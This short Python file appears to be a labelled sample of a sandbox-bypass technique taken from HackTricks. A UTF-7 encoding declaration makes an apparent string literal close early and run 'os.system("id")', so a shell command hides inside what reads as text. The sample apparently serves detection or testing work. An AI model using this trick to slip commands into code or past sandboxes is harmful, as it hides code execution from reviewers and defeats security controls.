# coding: utf-7
# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (UTF-7 section)
# Family: source-encoding
# What: utf_7 cookie: the payload sits inside what looks like a string literal and closes it early
note = "momentum+ACIAOw-import os+ADs-os.system(+ACI-id+ACI-)+ADsAIw-"
print(note)
